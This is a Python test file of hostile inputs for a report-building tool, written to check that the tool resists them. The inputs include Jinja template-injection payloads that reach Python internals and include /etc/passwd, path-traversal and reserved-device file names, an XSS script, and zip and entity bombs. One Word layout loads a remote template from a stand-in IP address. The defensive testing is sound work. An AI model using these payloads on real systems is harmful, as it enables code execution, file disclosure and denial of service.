"""Harm by the other doors: report JSON, roster, annualreport.toml, a unit's texts, a Word layout."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from annualreport.rendering import templates
from tests.hostile import documents, spreadsheets
from tests.hostile.packing import LOG_ROW, OFFICE, PACKAGE, package, sheet, workbook

HEAD = '{"schema": "annualreport/report/1", "unit": "某局", "year": 2025, "form": "2021", '
LAYOUT = "report.docx"


@dataclass(frozen=True)
class Case:
    """Files by name, and the command over them; `{}` in an argument is their folder."""

    files: Callable[[], Mapping[str, bytes]]
    arguments: tuple[str, ...]


def report(content: str | bytes) -> Case:
    """A report in JSON to check."""
    return Case(
        lambda: {"a.json": content if isinstance(content, bytes) else content.encode()},
        ("validate", "{}/a.json"),
    )


def settings(content: bytes) -> Case:
    """An annualreport.toml beside a workbook."""
    made = {"annualreport.toml": content}
    return Case(lambda: {**made, "a.xlsx": workbook(sheet(LOG_ROW))}, ("validate", "{}/a.xlsx"))


def roster(name: str, make: Callable[[], bytes]) -> Case:
    """A roster over an empty folder."""
    return Case(
        lambda: {name: make(), "in/a.xlsx": workbook(sheet(LOG_ROW))},
        ("aggregate", "{}/in", "--unit", "某县人民政府", "--year", "2025", "--roster", f"{{}}/{name}", "--output-dir", "{}/out"),
    )  # fmt: skip


def texts(words: str, *more: str) -> Case:
    """A text of a unit's own."""
    escaped = words.replace("&", "&amp;").replace("<", "&lt;")
    cells = "".join(
        f'<row r="{number}">'
        + "".join(
            f'<c r="{"AB"[column]}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
            for column, value in enumerate(row)
        )
        + "</row>"
        for number, row in enumerate(
            (("部分", "正文"), ("一", escaped), ("五", "有不足。"), ("六", "无。")), 1
        )
    )
    return Case(
        lambda: {"2025.xlsx": workbook(sheet(cells), names=("文字材料",))},
        ("build", "{}/2025.xlsx", "--output-dir", "{}/out", *more),
    )


def unit(name: str) -> Case:
    """A unit whose name becomes the name of files."""
    from tests.hostile import packing

    made = packing.parts(sheet(LOG_ROW))
    first = "xl/worksheets/sheet1.xml"
    made[first] = str(made[first]).replace("青禾县档案局", name)
    return Case(
        lambda: {"2025.xlsx": package(made)},
        ("build", "{}/2025.xlsx", "--force", "--output-dir", "{}/out"),
    )


def layout(change: Callable[[dict[str, bytes]], Mapping[str, bytes]]) -> Case:
    """A Word layout: ours, changed."""

    def files() -> Mapping[str, bytes]:
        from io import BytesIO
        from zipfile import ZipFile

        with ZipFile(BytesIO(templates.read(LAYOUT))) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        example = Path(__file__).parents[2] / "examples" / "2020.xlsx"
        return {"模板.docx": package(change(parts)), "2020.xlsx": example.read_bytes()}

    return Case(files, ("build", "{}/2020.xlsx", "--template", "{}/模板.docx", "--output-dir", "{}/out"))


def with_words(words: str) -> Callable[[dict[str, bytes]], Mapping[str, bytes]]:
    """A change of a layout: a paragraph in front."""
    paragraph = f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>".encode()
    return lambda parts: (
        parts
        | {"word/document.xml": parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + paragraph)}
    )


def fetching(parts: dict[str, bytes]) -> Mapping[str, bytes]:
    """A layout that has its own template fetched from elsewhere whenever it is opened."""
    relation = f'<Relationship Id="r99" Type="{OFFICE}/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/>'
    relations = f'<Relationships xmlns="{PACKAGE}/relationships">{relation}</Relationships>'
    return parts | {"word/_rels/settings.xml.rels": relations.encode()}


HOSTILE: dict[str, Case] = {
    "deep json": report("[" * 200_000),
    "deep report": report(HEAD + '"figures": ' + '{"a":' * 100_000),
    "huge number": report(f'{HEAD}"figures": {{"t2.rules.made": {"9" * 1_000_000}}}}}'),
    "no number": report(f'{HEAD}"figures": {{"t2.rules.made": NaN}}}}'),
    "endless number": report(f'{HEAD}"figures": {{"t2.rules.made": 1e999999999}}}}'),
    "million keys": report(HEAD + json.dumps({f"k{n}": n for n in range(400_000)}).join(('"figures": ', "}"))),
    "million parts": report(f'{HEAD}"figures": {{}}, "parts": [{",".join(["1"] * 400_000)}]}}'),
    "surrogates": report(json.dumps({"schema": "annualreport/report/1", "unit": "\ud800\u202e\x00", "form": "2021", "figures": {}})),
    "invalid json": report(b'{"schema": "\xff\xfe"}'),
    "odd types": report('{"schema": ["annualreport/report/1"], "figures": 3}'),
    "large json": report(b"{" + b" " * (30 << 20) + b"}"),
    "climbing unit": report(json.dumps({"schema": "annualreport/report/1", "unit": "../../../某局", "year": 2025, "form": "2021", "figures": {}})),
    "deep toml": settings(b"a = " + b"[" * 100_000),
    "dotted toml": settings(b".".join([b"a"] * 100_000) + b" = 1"),
    "large toml": settings(b"#" * (4 << 20)),
    "invalid toml": settings(b"\xff\xfe[options]"),
    "nul toml": settings(b"[options]\nunit = '\x00'"),
    "number toml": settings(b"[options]\nother_share = " + b"9" * 5_000),
    "wrong toml": settings("[outcomes]\n'另案处理' = '{{ 7*7 }}'".encode()),
    "bomb roster": roster("名册.xlsx", spreadsheets.HOSTILE["corner.xlsx"]),
    "repeated roster": roster("名册.ods", spreadsheets.HOSTILE["area.ods"]),
    "wide roster": roster("名册.csv", lambda: ("单位," * 10_000).encode() + b"\n"),
    "climbing roster": roster("名册.csv", lambda: "单位,层级\n../../某局,县\nCON,县\n=1+1,县\n".encode()),
    "invalid roster": roster("名册.csv", lambda: "单位\n".encode() + bytes(range(128, 256))),
    "roster of words": roster("名册.docx", documents.HOSTILE["bomb.docx"]),
    "classes": texts("{{ ''.__class__.__mro__ }}"),
    "endless loop": texts("{% for a in range(999999) %}{% for b in range(999999) %}x{% endfor %}{% endfor %}"),
    "power": texts("{{ 9**9**9 }}"),
    "long product": texts("{{ 'a' * 999999999 }}"),
    "inclusion": texts("{% include '/etc/passwd' %}"),
    "format": texts("{{ '{0.__class__}'.format(单位名称) }}"),
    "deep template": texts("{{ " + "(" * 5_000 + "1" + ")" * 5_000 + " }}"),
    "many numbers": texts("1件，其中" * 60_000, "--force"),
    "page": texts("<script>alert(1)</script>{{ 单位名称 }}", "--force"),
    "climbing name": unit("../../../某局"),
    "absolute name": unit("/etc/cron.d/某局"),
    "drive name": unit("C:\\Windows\\某局"),
    "device name": unit("CON"),
    "stream name": unit("某局:隐藏.txt"),
    "long name": unit("局" * 300),
    "turned name": unit("\u202e局某\u2066\u200f"),
    "dots": unit("..."),
    "layout with classes": layout(with_words("{{ ''.__class__.__mro__[1].__subclasses__() }}")),
    "layout with a loop": layout(with_words("{% for a in range(9**9) %}{% endfor %}")),
    "layout that fetches": layout(fetching),
    "layout with macros": layout(lambda parts: parts | {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(400)}),
    "layout bomb": Case(lambda: {"a.docx": documents.bomb(), "2025.xlsx": workbook(sheet(LOG_ROW))}, ("build", "{}/2025.xlsx", "--template", "{}/a.docx", "--force", "--output-dir", "{}/out")),
    "layout without parts": layout(lambda parts: {"word/document.xml": parts["word/document.xml"]}),
    "layout with entities": layout(lambda parts: parts | {"word/document.xml": spreadsheets.laughs("<x>&a9;</x>").encode()}),
    "layout without xml": layout(lambda parts: parts | {"word/styles.xml": documents.laughs()}),
    "long report": report(HEAD + '"figures": {}, "parts": [{"number": 1, "text": "' + "1件，其中" * 900_000 + '"}]}'),
    "previous bomb": Case(lambda: {"2025.xlsx": workbook(sheet(LOG_ROW)), "2024.xlsx": spreadsheets.large_sheets()}, ("validate", "{}/2025.xlsx", "--previous", "{}/2024.xlsx")),
    "compared bomb": Case(lambda: {"a.docx": documents.bomb(), "b.html": documents.deep_page()}, ("compare", "{}/a.docx", "{}/b.html", "--output-dir", "{}/out")),
    "extracted bomb": Case(lambda: {"a.docx": documents.bomb()}, ("extract", "{}/a.docx", "--output", "{}/a.json")),
    "a folder of them": Case(
        lambda: {
            "in/1.xlsx": spreadsheets.HOSTILE["corner.xlsx"](),
            "in/2.docx": documents.HOSTILE["laughs.docx"](),
            "in/3.json": b"{" * 1_000,
            "in/4.xlsx": workbook(sheet(LOG_ROW)),
        },
        ("validate", "{}/in"),
    ),
}  # fmt: skip
